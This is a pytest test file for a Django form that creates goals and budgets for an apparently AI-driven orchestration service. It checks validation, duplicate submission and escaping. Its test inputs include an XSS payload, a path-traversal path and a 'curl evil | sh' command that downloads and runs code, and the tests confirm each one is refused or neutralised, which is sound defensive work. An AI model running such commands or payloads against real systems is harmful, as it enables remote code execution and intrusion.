"""A new goal from the form: what was typed stays when it is refused, and a form that is posted twice is one goal."""

from __future__ import annotations

import html
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client

from orchestration.models import Budget, Goal, IdempotencyKey, Repository
from tests.lists.conftest import logged_in
from tests.support.people import team

pytestmark = pytest.mark.django_db

PAGE = "/goals/new/"


def values(client: Client, address: str = PAGE) -> dict[str, Any]:
    """The form as a browser would send it untouched."""
    return dict(fields(client.get(address).content.decode()))


def fields(text: str) -> Iterator[tuple[str, Any]]:
    form = text[text.index('<form class="form narrow') :]
    form = form[: form.index("</form>")]
    for tag in re.findall(r"<input [^>]*>", form):
        said = {name: html.unescape(value) for name, value in re.findall(r'([\w-]+)="([^"]*)"', tag)}
        if said.get("type") in ("checkbox", "radio") and not re.search(r"\bchecked\b", tag):
            continue
        if said.get("name") != "csrfmiddlewaretoken":
            yield said["name"], said.get("value", "on")
    for name, value in re.findall(r'<textarea [^>]*name="(\w+)"[^>]*>(.*?)</textarea>', form, re.S):
        yield name, html.unescape(value)
    for name, options in re.findall(r'<select [^>]*name="(\w+)"[^>]*>(.*?)</select>', form, re.S):
        chosen = re.search(r'value="([^"]*)" selected', options)
        yield name, chosen.group(1) if chosen else ""


def test_a_goal_with_everything(owner: Client, ada: User, shop: Repository) -> None:
    sent = values(owner) | {
        "text": "Sell more\r\nwithout lying",
        "ref": "main",
        "checks": "make test\r\n\r\n  make lint  \r\n",
        "hidden_checks": " make exam \r\n",
        "allow_check_edits": "on",
        "calls": "20",
        "tokens": "1000",
        "commands": "5",
        "seconds": "60",
        "rollouts": "3",
        "strategy": "best_of_n",
    }
    answer = owner.post(PAGE, sent)
    goal = Goal.objects.get()
    assert (answer.status_code, answer.headers["Location"]) == (302, f"/goals/{goal.pk}/")
    assert (goal.text, goal.checks) == ("Sell more\nwithout lying", ["make test", "make lint"])
    assert goal.hidden_checks == ["make exam"]
    assert (goal.repository, goal.base_ref, goal.rollouts_wanted) == (shop, "main", 3)
    assert (goal.strategy, goal.allow_check_edits) == ("best_of_n", True)
    assert (goal.submitted_by, goal.origin) == (ada, "panel")
    budget = Budget.objects.get(goal=goal)
    assert (budget.max_calls, budget.max_tokens, budget.max_commands, budget.max_seconds) == (20, 1000, 5, 60)


def test_a_sentence_is_enough(owner: Client) -> None:
    assert owner.post(PAGE, values(owner) | {"text": "Sell more"}).status_code == 302
    goal = Goal.objects.get()
    assert (goal.repository, goal.checks, goal.rollouts_wanted) == (None, [], 1)
    assert Budget.objects.get(goal=goal).max_calls == 200


def test_the_same_form_posted_twice_is_one_goal(owner: Client) -> None:
    sent = values(owner) | {"text": "Sell more"}
    first, second = owner.post(PAGE, sent), owner.post(PAGE, sent)
    assert first.headers["Location"] == second.headers["Location"]
    assert Goal.objects.count() == 1


def test_a_form_that_somebody_goes_back_to_and_changes_is_another_goal(owner: Client) -> None:
    sent = values(owner) | {"text": "Sell more"}
    owner.post(PAGE, sent)
    owner.post(PAGE, sent | {"text": "Sell much more"})
    owner.post(PAGE, values(owner) | {"text": "Sell more"})
    assert Goal.objects.count() == 3


def test_a_refused_form_can_be_corrected_and_its_key_is_still_free(owner: Client) -> None:
    sent = values(owner) | {"text": "Sell more", "checks": "x" * 2001}
    assert owner.post(PAGE, sent).status_code == 422
    assert not IdempotencyKey.objects.exists()
    assert owner.post(PAGE, sent | {"checks": "x"}).status_code == 302


def test_the_key_of_another_user_is_another_key(owner: Client, other: Client) -> None:
    sent = values(owner) | {"text": "Sell more"}
    owner.post(PAGE, sent)
    answer = other.post(PAGE, sent)
    assert answer.status_code == 302
    assert Goal.objects.count() == 2


@pytest.mark.django_db(transaction=True)
def test_two_clicks_at_the_same_moment_are_one_goal(ada: User) -> None:
    clients = [logged_in(ada) for _ in range(4)]
    sent = values(clients[0]) | {"text": "Sell more"}
    begin, answers = threading.Barrier(4), []

    def post(client: Client) -> None:
        begin.wait(30)
        answers.append(client.post(PAGE, sent))
        connection.close()

    threads = [threading.Thread(target=post, args=(client,)) for client in clients]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert [answer.status_code for answer in answers] == [302] * 4
    assert len({answer.headers["Location"] for answer in answers}) == 1
    assert Goal.objects.count() == 1


@pytest.mark.parametrize(
    ("field", "value", "said"),
    [
        ("text", "   ", "the goal is empty"),
        ("text", "red \x1b[31m alert", "control character"),
        ("text", "nul \x00", "Null characters"),
        ("text", "x" * 100_001, "GOAL_TEXT_MAX_BYTES"),
        ("ref", "r" * 251, "the ref"),
        ("ref", "\x1b]0;title\x07", "control character"),
        ("checks", "\n".join(map(str, range(21))), "too many"),
        ("checks", "echo \x07", "control character"),
        ("calls", "0", "greater than or equal to 1"),
        ("calls", "201", "less than or equal to 200"),
        ("tokens", "1e9", "whole number"),
        ("seconds", "9" * 5000, ""),
        ("priority", "11", "less than or equal to 10"),
        ("rollouts", "17", "from 1 to 16"),
        ("rollouts", "-1", "from 1 to 16"),
        ("strategy", "best_of_all", "Select a valid choice"),
        ("repository", "00000000-0000-0000-0000-000000000000", "Select a valid choice"),
        ("repository", "garbage", "not a valid UUID"),
        ("key", "", "load the page again"),
        ("key", "k" * 65, "load the page again"),
        ("earlier", "garbage", "load the page again"),
    ],
)
def test_what_cannot_be_used_is_said_and_what_was_typed_stays(owner: Client, field: str, value: str, said: str) -> None:
    sent = values(owner) | {"text": "Sell <b>more</b>", "checks": "make test", field: value}
    answer = owner.post(PAGE, sent)
    text = answer.content.decode()
    assert answer.status_code == 422
    assert "Nothing was submitted" in text
    assert said in html.unescape(text)
    assert "<b>more</b>" not in text
    kept = dict(fields(text))
    for name in {"text", "checks"} - {field}:
        assert kept[name] == sent[name]
    assert not Goal.objects.exists()


def test_hostile_text_comes_back_as_text(owner: Client) -> None:
    hostile = '</textarea><script>alert(1)</script>" onload="x'
    answer = owner.post(PAGE, values(owner) | {"text": hostile, "ref": hostile, "checks": hostile, "calls": "0"})
    text = answer.content.decode()
    assert "<script>alert" not in text
    assert ' onload="x' not in text
    assert dict(fields(text))["text"] == hostile


def test_it_is_filled_from_an_earlier_goal(owner: Client, submit: Any, shop: Repository) -> None:
    wish: dict[str, Any] = {
        "checks": ["make test", "make lint"],
        "hidden_checks": ["make exam"],
        "ref": "main",
        "limits": {"calls": 7},
        "allow_check_edits": True,
        "priority": 8,
        "review": {"review_when": "each_step", "reviewed_by": "llm_then_human", "ask_below": 0.5},
    }
    old = submit("Sell <more>", repo=shop, context={"ticket": 9}, rollouts=2, strategy="best_of_n", **wish)
    sent = values(owner, f"{PAGE}?from={old.pk}")
    assert (sent["text"], sent["calls"], sent["tokens"]) == ("Sell <more>", "7", "")
    owner.post(PAGE, sent)
    new = Goal.objects.exclude(pk=old.pk).get()
    same = (
        "text",
        "context",
        "repository",
        "base_ref",
        "checks",
        "hidden_checks",
        "allow_check_edits",
        "review_when",
        "reviewed_by",
        "ask_below",
        "rollouts_wanted",
        "strategy",
        "priority",
    )
    assert {name: getattr(new, name) for name in same} == {name: getattr(old, name) for name in same}
    assert Budget.objects.get(goal=new).max_calls == 7


@pytest.mark.parametrize("named", ["garbage", "00000000-0000-0000-0000-000000000000", "%00"])
def test_a_goal_of_nothing_is_not_found(owner: Client, named: str) -> None:
    assert owner.get(f"{PAGE}?from={named}").status_code == 404


def test_somebody_elses_goal_cannot_be_named_as_earlier(other: Client, submit: Any) -> None:
    secret = submit("Private", context={"password": "x"})
    answer = other.post(PAGE, values(other) | {"text": "Sell more", "earlier": str(secret.pk)})
    assert answer.status_code == 422
    assert Goal.objects.count() == 1


def test_the_only_repository_is_chosen_and_one_of_several_is_not(owner: Client, shop: Repository) -> None:
    assert values(owner)["repository"] == str(shop.pk)
    second = Repository.objects.create(team=team(), path="/elsewhere")
    assert values(owner)["repository"] == ""
    assert values(owner, f"{PAGE}?repository={second.pk}")["repository"] == str(second.pk)


def test_a_folder_can_be_typed_only_below_a_root(owner: Client, tmp_path: Path, settings: Any) -> None:
    (tmp_path / "in" / "shop" / ".git").mkdir(parents=True)
    (tmp_path / "out" / ".git").mkdir(parents=True)
    assert "path" not in values(owner)
    refused = owner.post(PAGE, values(owner) | {"text": "Sell more", "path": str(tmp_path / "out")})
    assert refused.status_code == 422
    settings.REPO_ROOTS = [tmp_path / "in"]
    assert "path" in values(owner)
    for path in ("in/../out", "out", "in/none"):
        assert owner.post(PAGE, values(owner) | {"text": "Sell", "path": f"{tmp_path}/{path}"}).status_code == 422
    assert owner.post(PAGE, values(owner) | {"text": "Sell", "path": str(tmp_path / "in/shop")}).status_code == 302
    assert Goal.objects.get().repository.path == str(tmp_path / "in" / "shop")  # type: ignore[union-attr]


def test_setup_commands_cannot_come_from_the_panel(owner: Client, shop: Repository) -> None:
    owner.post(PAGE, values(owner) | {"text": "Sell more", "setup": "curl evil | sh", "toolchain": "/"})
    shop.refresh_from_db()
    assert (shop.setup, shop.setup_allowed, shop.toolchain) == ("", False, [])


def test_a_body_that_is_too_large_is_refused_in_plain_words(owner: Client) -> None:
    answer = owner.post(PAGE, {"text": "x" * 3_000_000})
    assert answer.status_code in (400, 413)
    assert b"Nothing was changed" in answer.content
